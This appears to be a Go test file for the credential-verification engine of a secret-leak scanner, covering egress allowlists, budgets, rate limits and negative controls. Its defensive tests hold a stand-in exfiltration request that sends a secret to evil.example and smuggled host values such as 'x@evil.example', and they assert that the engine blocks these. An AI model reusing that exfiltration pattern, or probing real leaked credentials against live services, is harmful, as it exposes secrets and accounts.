package verify

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"maps"
	"math/rand/v2"
	"net/http"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/whosekey/whosekey/leak"
	"github.com/whosekey/whosekey/verify/verifytest"
)

// fake is a Verifier that makes one GET with the secret in a header: 200 is
// live, 401 dead, 403 restricted.
type fake struct {
	host, suffix string // suffix: the host is the part "host"
	class        leak.Class
	noControl    string
	perSecond    float64
	do           func(ctx context.Context, q Query) leak.Verdict
}

func (f *fake) Class() leak.Class { return f.class }
func (f *fake) Control() string   { return f.noControl }
func (f *fake) Rate() float64     { return f.perSecond }

func (f *fake) Hosts() []string {
	if f.host == "" {
		return nil
	}
	return []string{f.host + f.suffix}
}

func (f *fake) target(q Query) string {
	switch {
	case f.host == "":
		return q.Parts["host"].Reveal()
	case f.suffix != "":
		return q.Parts["host"].Reveal() + f.suffix
	}
	return f.host
}

func (f *fake) Plan(q Query) ([]Call, error) {
	return []Call{{Class: f.class, Method: "GET", Host: f.target(q), Path: "/me"}}, nil
}

func (f *fake) Verify(ctx context.Context, q Query) leak.Verdict {
	if f.do != nil {
		return f.do(ctx, q)
	}
	r, err := http.NewRequest("GET", "https://"+f.target(q)+"/me", nil)
	if err != nil {
		return leak.Verdict{Status: leak.Unknown, Reason: "no request"}
	}
	r.Header.Set("Authorization", "Bearer "+q.Parts[leak.SecretPart].Reveal())
	a, err := q.Door.Do(ctx, f.class, r)
	if err != nil {
		return leak.Verdict{Status: leak.Unknown, Reason: err.Error()}
	}
	s, ok := map[int]leak.Status{200: leak.Live, 401: leak.Dead, 403: leak.Restricted}[a.Status]
	if !ok {
		s = leak.Unknown
	}
	return leak.Verdict{Status: s, Reason: statusText(a.Status), Facts: map[string]string{leak.FactName: "bot"}}
}

// token is a made-up credential, the same each time for the same number.
func token(i int) string {
	sum := sha256.Sum256([]byte(fmt.Sprint("token ", i)))
	return "acme_" + hex.EncodeToString(sum[:16])
}

func finding(rule string, i int, more ...string) *leak.Finding {
	f := &leak.Finding{
		ID: fmt.Sprintf("id-%s-%04d", rule, i), Rule: leak.RuleInfo{ID: rule, Severity: 5}, Confidence: leak.High,
		Parts: leak.Parts{leak.SecretPart: leak.NewSecret(token(i))}, Verdict: leak.Verdict{Status: leak.Unchecked},
	}
	for i := 0; i+1 < len(more); i += 2 {
		f.Parts[more[i]] = leak.NewSecret(more[i+1])
	}
	return f
}

func testEngine(t testing.TB, n *verifytest.Net, vs map[string]Verifier, change func(*Config)) *Engine {
	t.Helper()
	cfg := Config{Mode: Safe, Verifiers: vs, Door: DoorOptions{
		Resolver: n, Dial: n.Dial, RootCAs: n.Roots, CallTimeout: 30 * time.Second, DialTimeout: 30 * time.Second,
	}}
	if change != nil {
		change(&cfg)
	}
	e, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(e.Close)
	return e
}

// provider accepts the tokens of some numbers.
func provider(live ...int) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		for _, i := range live {
			if r.Header.Get("Authorization") == "Bearer "+token(i) {
				return
			}
		}
		w.WriteHeader(401)
	}
}

func statuses(fs []*leak.Finding) (out []string) {
	for _, f := range fs {
		out = append(out, string(f.Verdict.Status))
	}
	return out
}

func TestEngineAsks(t *testing.T) {
	n := verifytest.New(t)
	var calls atomic.Int64
	n.Serve("api.acme.com", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		provider(1)(w, r)
	}))
	e := testEngine(t, n, map[string]Verifier{"acme": &fake{host: "api.acme.com", class: leak.S1, perSecond: 50}}, nil)
	fs := []*leak.Finding{finding("acme", 1), finding("acme", 2), finding("acme", 1), finding("other", 1)}
	if err := e.Verify(context.Background(), fs); err != nil {
		t.Fatal(err)
	}
	if got := statuses(fs); !slices.Equal(got, []string{"live", "dead", "live", "unverifiable"}) {
		t.Errorf("%v", got)
	}
	v := fs[0].Verdict
	if v.Host != "api.acme.com" || v.Code != 200 || v.Class != leak.S1 || v.When.IsZero() || v.Control != "refused" || v.Facts["name"] != "bot" {
		t.Errorf("%+v", v)
	}
	if calls.Load() != 3 { // each credential once, and the control
		t.Errorf("%d calls", calls.Load())
	}
	again := []*leak.Finding{finding("acme", 1), finding("acme", 2)}
	e.Verify(context.Background(), again)
	if calls.Load() != 3 || again[0].Verdict.Control != "refused" || again[1].Verdict.Status != leak.Dead {
		t.Errorf("asked again: %d calls, %+v", calls.Load(), again[0].Verdict)
	}
}

func TestCacheExpires(t *testing.T) {
	n := verifytest.New(t)
	var calls atomic.Int64
	n.Serve("api.acme.com", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		if r.Header.Get("Authorization") == "Bearer "+token(3) {
			w.WriteHeader(500)
			return
		}
		provider(1)(w, r)
	}))
	now := time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC)
	e := testEngine(t, n, map[string]Verifier{"acme": &fake{host: "api.acme.com", class: leak.S1, perSecond: 50, noControl: "a test"}}, func(c *Config) {
		c.Now = func() time.Time { return now }
	})
	ask := func(want int64) {
		t.Helper()
		calls.Store(0)
		fs := []*leak.Finding{finding("acme", 1), finding("acme", 2), finding("acme", 3)}
		e.Verify(context.Background(), fs)
		if calls.Load() != want {
			t.Errorf("%d calls, want %d", calls.Load(), want)
		}
		if got := statuses(fs); !slices.Equal(got, []string{"live", "dead", "unknown"}) {
			t.Errorf("%v", got)
		}
	}
	ask(3)
	ask(1) // what is unknown is asked again
	now = now.Add(time.Hour)
	ask(2)
	now = now.Add(24 * time.Hour)
	ask(3)
}

// TestEngineSendsNothing: whom policy excludes is not asked, not even for his
// address.
func TestEngineSendsNothing(t *testing.T) {
	n := verifytest.New(t)
	n.Serve("*", provider(1))
	vs := map[string]Verifier{
		"acme": &fake{host: "api.acme.com", class: leak.S1}, "reads": &fake{host: "data.acme.com", class: leak.S2},
		"hosted": &fake{class: leak.S1}, "none": unverifiable{"it would post a message"},
	}
	low, expired := finding("acme", 5), finding("acme", 6)
	low.Confidence = leak.Low
	fs := func() []*leak.Finding {
		return []*leak.Finding{
			finding("acme", 1), finding("reads", 2), finding("hosted", 3, "host", "git.corp.example"), finding("hosted", 3, "host", token(3)+"\n@x"), finding("none", 4), low, expired,
			finding("acme", 7, "key_id", "AKI"+"AAYLPMN5HAAAAAAAA"), finding("acme", 8, "host", "x1.canarytokens.com"), finding("acme", 9, "key_id", "ASI"+"AQNZGKIQY56JQ7WML"),
		}
	}
	offline := func(c *Config) {
		c.Offline = func(f *leak.Finding) (leak.Verdict, bool) {
			return leak.Verdict{Status: leak.Expired, Reason: "since 2020"}, strings.HasSuffix(f.ID, "0006")
		}
		c.OwnTenants = []string{"gcp:acme", "aws:111122223333"}
	}
	for mode, want := range map[Mode]string{
		Off:  "unchecked unchecked unchecked unchecked unchecked unchecked unchecked unchecked unchecked unchecked",
		Plan: "unchecked unchecked skipped skipped unverifiable skipped expired canary canary skipped",
	} {
		e := testEngine(t, n, vs, func(c *Config) { c.Mode = mode; offline(c) })
		list := fs()
		for _, f := range list {
			f.Verdict = leak.Verdict{Status: leak.Unchecked}
		}
		if err := e.Verify(context.Background(), list); err != nil {
			t.Fatal(err)
		}
		if got := strings.Join(statuses(list), " "); got != want {
			t.Errorf("%s: %s\nwant %s", mode, got, want)
		}
		e.Plan(list)
		e.Hosts()
		if len(n.Looked())+len(n.Dialed()) > 0 {
			t.Fatalf("%s: somebody was asked: %v", mode, n.Looked())
		}
	}
	e := testEngine(t, n, vs, offline)
	list := fs()
	e.Verify(context.Background(), list)
	if got, want := strings.Join(statuses(list), " "), "live skipped skipped skipped unverifiable skipped expired canary canary skipped"; got != want {
		t.Errorf("safe: %s\nwant %s", got, want)
	}
	if names := n.Looked(); slices.ContainsFunc(names, func(s string) bool { return s != "api.acme.com" }) {
		t.Errorf("looked up %v", names)
	}
	for _, f := range list {
		if strings.Contains(f.Verdict.Reason, token(3)) {
			t.Errorf("the reason holds the credential: %s", f.Verdict.Reason)
		}
	}
	if want := "git.corp.example: the host is not allowed (--allow-host git.corp.example)"; list[2].Verdict.Reason != want {
		t.Errorf("%s, want %s", list[2].Verdict.Reason, want)
	}
}

// TestEgress: what is asked in the mode safe is on the list of hosts.
func TestEgress(t *testing.T) {
	n := verifytest.New(t)
	n.Serve("*", provider(1))
	vs := map[string]Verifier{
		"acme": &fake{host: "api.acme.com", class: leak.S1, perSecond: 50}, "tenant": &fake{suffix: ".tenants.example", host: "", class: leak.S0, perSecond: 50},
		"reads": &fake{host: "data.acme.com", class: leak.S2},
	}
	vs["tenant"] = &tenant{fake{class: leak.S0, suffix: ".tenants.example"}}
	e := testEngine(t, n, vs, func(c *Config) {
		c.Door.Allow = []string{"git.corp.example:8443", "10.0.0.7", "api.acme.com:443", "*.tenants.example"}
	})
	want := []Egress{
		{Host: "*.tenants.example", Classes: []leak.Class{leak.S0}, Providers: []string{""}, Rules: []string{"tenant"}, Allowed: true},
		{Host: "10.0.0.7", Allowed: true},
		{Host: "api.acme.com", Port: "443", Classes: []leak.Class{leak.S1}, Providers: []string{""}, Rules: []string{"acme"}, Allowed: true},
		{Host: "git.corp.example", Port: "8443", Allowed: true},
	}
	if d := cmp.Diff(want, e.Hosts()); d != "" {
		t.Error(d)
	}
	var fs []*leak.Finding
	for i, host := range []string{"a", "b.c", "evil.example/", "-", "", "x@evil.example", "a:8443", "é", "a.tenants.example#"} {
		fs = append(fs, finding("tenant", i, "host", host), finding("acme", i, "host", host), finding("reads", i))
	}
	e.Verify(context.Background(), fs)
	for _, name := range n.Looked() {
		if name != "api.acme.com" && !strings.HasSuffix(name, ".tenants.example") {
			t.Errorf("asked %q", name)
		}
	}
	for _, a := range n.Dialed() {
		if !strings.HasSuffix(a, ":443") {
			t.Errorf("dialled %s", a)
		}
	}
}

// tenant asks a host with a label of the credential.
type tenant struct{ fake }

func (f *tenant) Hosts() []string { return []string{f.suffix} }

func (f *tenant) Plan(q Query) ([]Call, error) {
	return []Call{{Class: f.class, Method: "GET", Host: q.Parts["host"].Reveal() + f.suffix}}, nil
}

func (f *tenant) Verify(ctx context.Context, q Query) leak.Verdict {
	g := fake{host: q.Parts["host"].Reveal() + f.suffix, class: f.class}
	return g.Verify(ctx, q)
}

func TestNegativeControl(t *testing.T) {
	status := func(code int) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(code) }
	}
	firstThen := func(first, then int) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if r.Header.Get("Authorization") == "Bearer "+token(1) {
				w.WriteHeader(first)
				return
			}
			w.WriteHeader(then)
		}
	}
	for _, test := range []struct {
		name    string
		serve   http.HandlerFunc
		none    string
		status  leak.Status
		control string
	}{
		{"refuses others", provider(1), "", leak.Live, "refused"},
		{"accepts anything", status(200), "", leak.Unknown, "accepted"},
		{"restricts anything", status(403), "", leak.Unknown, "accepted"},
		{"restricts others", firstThen(200, 403), "", leak.Live, "inconclusive: a made-up credential was called restricted"},
		{"restricts this one", firstThen(403, 401), "", leak.Restricted, "refused"},
		{"breaks", firstThen(200, 500), "", leak.Live, "inconclusive: 500 Internal Server Error"},
		{"dead", status(401), "", leak.Dead, ""},
		{"none", provider(1), "a wrong password could lock the account", leak.Live, "none: a wrong password could lock the account"},
	} {
		n := verifytest.New(t)
		var calls atomic.Int64
		n.Serve("api.acme.com", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			calls.Add(1)
			test.serve(w, r)
		}))
		e := testEngine(t, n, map[string]Verifier{"acme": &fake{host: "api.acme.com", class: leak.S1, noControl: test.none, perSecond: 50}}, nil)
		fs := []*leak.Finding{finding("acme", 1)}
		e.Verify(context.Background(), fs)
		v := fs[0].Verdict
		if v.Status != test.status || v.Control != test.control {
			t.Errorf("%s: %s, %q", test.name, v.Status, v.Control)
		}
		if v.Status == leak.Unknown && len(v.Facts) > 0 {
			t.Errorf("%s: facts of an answer that means nothing: %v", test.name, v.Facts)
		}
		if max := int64(2); calls.Load() > max {
			t.Errorf("%s: %d calls", test.name, calls.Load())
		}
	}
}

func TestBudget(t *testing.T) {
	for budget, want := range map[int]string{
		1: "live skipped skipped skipped", 2: "live skipped skipped skipped", 3: "live dead skipped skipped", 5: "live dead dead dead", 0: "live dead dead dead",
	} {
		n := verifytest.New(t)
		var calls atomic.Int64
		n.Serve("api.acme.com", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			calls.Add(1)
			provider(0)(w, r)
		}))
		e := testEngine(t, n, map[string]Verifier{"acme": &fake{host: "api.acme.com", class: leak.S1, perSecond: 50}}, func(c *Config) { c.Budget = budget })
		var fs []*leak.Finding
		for i := range 4 {
			fs = append(fs, finding("acme", i))
		}
		rand.Shuffle(len(fs), func(i, j int) { fs[i], fs[j] = fs[j], fs[i] })
		e.Verify(context.Background(), fs)
		slices.SortFunc(fs, func(a, b *leak.Finding) int { return strings.Compare(a.ID, b.ID) })
		if got := strings.Join(statuses(fs), " "); got != want {
			t.Errorf("budget %d: %s, want %s", budget, got, want)
		}
		if budget > 0 && calls.Load() > int64(budget) {
			t.Errorf("budget %d: %d calls", budget, calls.Load())
		}
		if control := fs[0].Verdict.Control; (control == "refused") != (budget != 1) {
			t.Errorf("budget %d: control %q", budget, control)
		}
	}
}

// TestBudgetGivenBack: what was set aside for controls that nobody needs is for
// other credentials, and what became of a call is not hidden by what could not be
// paid any more.
func TestBudgetGivenBack(t *testing.T) {
	abort := http.HandlerFunc(func(http.ResponseWriter, *http.Request) { panic(http.ErrAbortHandler) })
	for _, test := range []struct {
		name   string
		serve  http.HandlerFunc
		budget int
		calls  int64
		want   map[leak.Status]int
		reason string // of those that are unknown
	}{
		{"all refused", provider(), 5, 5, map[leak.Status]int{leak.Dead: 5, leak.SkippedCheck: 1}, ""},
		{"for all", provider(), 6, 6, map[leak.Status]int{leak.Dead: 6}, ""},
		{"all live", provider(0, 1, 2, 3, 4, 5), 5, 5, map[leak.Status]int{leak.Live: 3, leak.SkippedCheck: 3}, ""},
		{"lost", abort, 1, 1, map[leak.Status]int{leak.Unknown: 1, leak.SkippedCheck: 5}, "the connection ended before the answer"},
	} {
		n := verifytest.New(t)
		var calls atomic.Int64
		vs := map[string]Verifier{}
		var fs []*leak.Finding
		for i := range 6 {
			rule := fmt.Sprint("r", i)
			host := rule + ".acme.com"
			n.Serve(host, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				calls.Add(1)
				test.serve(w, r)
			}))
			vs[rule] = &fake{host: host, class: leak.S1, perSecond: 50}
			fs = append(fs, finding(rule, i))
		}
		testEngine(t, n, vs, func(c *Config) { c.Budget = test.budget }).Verify(context.Background(), fs)
		got := map[leak.Status]int{}
		for _, f := range fs {
			got[f.Verdict.Status]++
			if f.Verdict.Status == leak.Unknown && f.Verdict.Reason != test.reason {
				t.Errorf("%s: %q", test.name, f.Verdict.Reason)
			}
		}
		if !maps.Equal(got, test.want) || calls.Load() != test.calls {
			t.Errorf("%s: %v after %d calls, want %v after %d", test.name, got, calls.Load(), test.want, test.calls)
		}
	}
}

// TestEngineOrder: the outcome does not depend on the order of the findings.
func TestEngineOrder(t *testing.T) {
	n := verifytest.New(t)
	n.Serve("*", provider(1, 3, 5, 7))
	var want []string
	for round := range 4 {
		vs := map[string]Verifier{}
		var fs []*leak.Finding
		for i := range 12 {
			rule := fmt.Sprint("r", i%3)
			vs[rule] = &fake{host: rule + ".acme.com", class: leak.S1, perSecond: 50}
			fs = append(fs, finding(rule, i))
		}
		if round > 0 {
			rand.Shuffle(len(fs), func(i, j int) { fs[i], fs[j] = fs[j], fs[i] })
		}
		testEngine(t, n, vs, func(c *Config) { c.Budget = 11 }).Verify(context.Background(), fs)
		slices.SortFunc(fs, func(a, b *leak.Finding) int { return strings.Compare(a.ID, b.ID) })
		var got []string
		for _, f := range fs {
			v := f.Verdict
			got = append(got, fmt.Sprint(f.ID, v.Status, v.Reason, v.Host, v.Code, v.Control, v.Facts))
		}
		if round == 0 {
			want = got
		} else if d := cmp.Diff(want, got); d != "" {
			t.Fatal(d)
		}
	}
}

func TestEngineInterrupted(t *testing.T) {
	n := verifytest.New(t)
	ctx, cancel := context.WithCancel(context.Background())
	var calls atomic.Int64
	n.Serve("api.acme.com", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if calls.Add(1) == 3 {
			cancel()
			<-r.Context().Done()
		}
		w.WriteHeader(401)
	}))
	e := testEngine(t, n, map[string]Verifier{"acme": &fake{host: "api.acme.com", class: leak.S1, perSecond: 50}}, nil)
	var fs []*leak.Finding
	for i := range 20 {
		fs = append(fs, finding("acme", i))
	}
	if err := e.Verify(ctx, fs); err != context.Canceled {
		t.Error(err)
	}
	counts := map[leak.Status]int{}
	for _, f := range fs {
		v := f.Verdict
		counts[v.Status]++
		if v.Status != leak.Dead && v.Reason != "interrupted" {
			t.Errorf("%+v", v)
		}
	}
	if counts[leak.Dead] < 1 || counts[leak.Unknown] < 1 || counts[leak.Unchecked] < 10 {
		t.Errorf("%v", counts)
	}
	e = testEngine(t, n, map[string]Verifier{"acme": &fake{host: "api.acme.com", class: leak.S1}}, func(c *Config) { c.Timeout = 700 * time.Millisecond })
	if err := e.Verify(context.Background(), fs); err != nil {
		t.Error(err)
	}
	if v := fs[19].Verdict; v.Status != leak.Unknown || v.Reason != "not asked: the time for asking (700ms) is used up" {
		t.Errorf("%+v", v)
	}
}

// TestTotalTime: waiting as long as a host wants counts, too.
func TestTotalTime(t *testing.T) {
	n := verifytest.New(t)
	var calls atomic.Int64
	n.Serve("api.acme.com", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		w.Header().Set("Retry-After", "25")
		w.WriteHeader(429)
	}))
	e := testEngine(t, n, map[string]Verifier{"acme": &fake{host: "api.acme.com", class: leak.S1}}, func(c *Config) { c.Timeout = 15 * time.Second })
	fs := []*leak.Finding{finding("acme", 1), finding("acme", 2), finding("acme", 3), finding("acme", 4)}
	if err := e.Verify(context.Background(), fs); err != nil {
		t.Error(err)
	}
	for i, f := range fs {
		if v := f.Verdict; v.Status != leak.Unknown || !strings.HasSuffix(v.Reason, "the time for asking (15s) is used up") {
			t.Errorf("%d: %+v", i, v)
		}
	}
	if calls.Load() > 2 {
		t.Errorf("%d calls", calls.Load())
	}
	// Which of them reaches the host first is not said.
	if !slices.ContainsFunc(fs, func(f *leak.Finding) bool { v := f.Verdict; return v.Sent() && v.Code == 429 && !v.When.IsZero() }) {
		t.Errorf("no evidence of the answer: %+v", fs[0].Verdict)
	}
}

// TestEngineDistrusts: whatever a verifier does or says, nothing of the
// credential gets out, and nothing falls over.
func TestEngineDistrusts(t *testing.T) {
	n := verifytest.New(t)
	n.Serve("*", http.NotFoundHandler()) // so that what is not refused works
	secret := token(1)
	for name, test := range map[string]struct {
		do   func(context.Context, Query) leak.Verdict
		want leak.Status
	}{
		"panics":  {func(context.Context, Query) leak.Verdict { panic(secret) }, leak.Unknown},
		"says no": {func(context.Context, Query) leak.Verdict { return leak.Verdict{} }, leak.Unknown},
		"canary":  {func(context.Context, Query) leak.Verdict { return leak.Verdict{Status: leak.Canary} }, leak.Unknown},
		"quotes": {func(context.Context, Query) leak.Verdict {
			return leak.Verdict{Status: leak.Dead, Reason: "GET /?k=" + secret + "\x1b[31m\n" + strings.Repeat("é", 900), Host: secret, Facts: map[string]string{leak.FactName: "x" + secret, "more": "1"}}
		}, leak.Dead},
		"goes elsewhere": {func(ctx context.Context, q Query) leak.Verdict {
			r, _ := http.NewRequest("GET", "https://evil.example/"+secret, nil)
			if _, err := q.Door.Do(ctx, leak.S0, r); err == nil {
				t.Error("a verifier may ask whom it wants")
			}
			if _, err := q.Door.Dial(ctx, "tcp", "evil.example:443"); err == nil {
				t.Error("a verifier may dial whom it wants")
			}
			r, _ = http.NewRequest("DELETE", "https://api.acme.com/", nil)
			if _, err := q.Door.Do(ctx, leak.S0, r); err == nil {
				t.Error("a verifier may delete")
			}
			r, _ = http.NewRequest("GET", "https://api.acme.com/", nil)
			for _, class := range []leak.Class{leak.S2, leak.S3, "", "S9"} {
				if _, err := q.Door.Do(ctx, class, r); err == nil {
					t.Errorf("a verifier may make calls of class %q", class)
				}
			}
			return leak.Verdict{Status: leak.Dead}
		}, leak.Dead},
	} {
		e := testEngine(t, n, map[string]Verifier{"acme": &fake{host: "api.acme.com", class: leak.S1, do: test.do}}, func(c *Config) { c.Door.Allow = nil })
		fs := []*leak.Finding{finding("acme", 1)}
		e.Verify(context.Background(), fs)
		v := fs[0].Verdict
		if text := fmt.Sprintf("%+v", v); v.Status != test.want || strings.Contains(text, secret) || strings.ContainsAny(text, "\x1b\n") || len(v.Reason) > maxText || v.Facts["more"] != "" {
			t.Errorf("%s: %s", name, text)
		}
	}
	if len(n.Dialed()) > 0 {
		t.Errorf("dialled %v", n.Dialed())
	}
}

func TestPlan(t *testing.T) {
	n := verifytest.New(t)
	e := testEngine(t, n, map[string]Verifier{"acme": &fake{host: "api.acme.com", class: leak.S1}, "reads": &fake{host: "data.acme.com", class: leak.S2, noControl: "x"}}, func(c *Config) { c.Mode = Plan })
	var got []string
	for _, p := range e.Plan([]*leak.Finding{finding("acme", 1), finding("acme", 1), finding("reads", 2), finding("other", 3)}) {
		got = append(got, fmt.Sprintf("%s %s%v%t", p.Finding.ID, p.Verdict.Status, p.Calls, p.Control))
	}
	want := []string{"id-acme-0001 [{S1 GET api.acme.com /me}]true", "id-reads-0002 [{S2 GET data.acme.com /me}]false", "id-other-0003 unverifiable[]false"}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

func TestNewRefuses(t *testing.T) {
	for _, cfg := range []Config{
		{Mode: "yes"}, {Mode: ""}, {Mode: Safe, Door: DoorOptions{Allow: []string{"*"}}}, {Mode: Safe, Door: DoorOptions{Proxy: "x"}}, {Mode: Safe, Door: DoorOptions{Rate: -1}},
		{Mode: Safe, Verifiers: map[string]Verifier{"a": &fake{host: "com"}}}, {Mode: Safe, Verifiers: map[string]Verifier{"a": &fake{host: "evil.com/x"}}},
	} {
		if _, err := New(cfg); err == nil {
			t.Errorf("takes %+v", cfg)
		}
	}
}

// meter notes when each host was asked.
type meter struct {
	mu    sync.Mutex
	live  map[string]bool // headers of credentials that work
	calls map[string][]time.Time
	delay time.Duration
	most  int
	now   int
}

func (m *meter) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	m.mu.Lock()
	m.calls[r.Host] = append(m.calls[r.Host], time.Now())
	m.now++
	m.most = max(m.most, m.now)
	m.mu.Unlock()
	time.Sleep(m.delay)
	m.mu.Lock()
	m.now--
	m.mu.Unlock()
	if !m.live[r.Header.Get("Authorization")] {
		w.WriteHeader(401)
	}
	io.WriteString(w, `{"answer": "of some length"}`)
}

// many are findings of some providers at servers that take 50 ms; of each
// provider one credential works, if some do.
func many(t testing.TB, providers, each int, some bool) (*Engine, *meter, []*leak.Finding) {
	n := verifytest.New(t)
	m := &meter{calls: map[string][]time.Time{}, live: map[string]bool{}, delay: 50 * time.Millisecond}
	n.Serve("*", m)
	vs := map[string]Verifier{}
	var fs []*leak.Finding
	for p := range providers {
		rule := fmt.Sprint("p", p)
		vs[rule] = &fake{host: rule + ".acme.com", class: leak.S1}
		for i := range each {
			fs = append(fs, finding(rule, p*1000+i))
		}
		if some {
			m.live["Bearer "+token(p*1000)] = true
		}
	}
	return testEngine(t, n, vs, nil), m, fs
}

// TestRatesHold: with the clock of this machine, no host is asked more often
// than it wants to be, and no more calls are under way than allowed.
func TestRatesHold(t *testing.T) {
	e, m, fs := many(t, 30, 5, false)
	e.Verify(context.Background(), fs)
	if len(m.calls) != 30 || m.most > 32 {
		t.Errorf("%d hosts, %d calls at once", len(m.calls), m.most)
	}
	// On average: on a busy machine single calls arrive late.
	total := 0.0
	for host, calls := range m.calls {
		if len(calls) != 5 {
			t.Errorf("%s: %d calls", host, len(calls))
		}
		total += calls[len(calls)-1].Sub(calls[0]).Seconds()
	}
	if got := 30 * 4 / total; got > defaultRate {
		t.Errorf("%.2f calls a second to each host, more than %v", got, defaultRate)
	}
}

// BenchmarkThousandFindings: 1,000 findings of 200 providers, each of which has
// one that works and is confirmed with a made-up one.
func BenchmarkThousandFindings(b *testing.B) {
	for b.Loop() {
		b.StopTimer()
		e, m, fs := many(b, 200, 5, true)
		b.StartTimer()
		e.Verify(context.Background(), fs)
		b.StopTimer()
		calls, confirmed := 0, 0
		for _, c := range m.calls {
			calls += len(c)
		}
		for _, f := range fs {
			if f.Verdict.Status == leak.Live && f.Verdict.Control == "refused" {
				confirmed++
			}
		}
		if calls != 1200 || confirmed != 200 {
			b.Fatalf("%d calls, %d confirmed", calls, confirmed)
		}
		b.ReportMetric(float64(calls), "calls/op")
		b.StartTimer()
	}
}
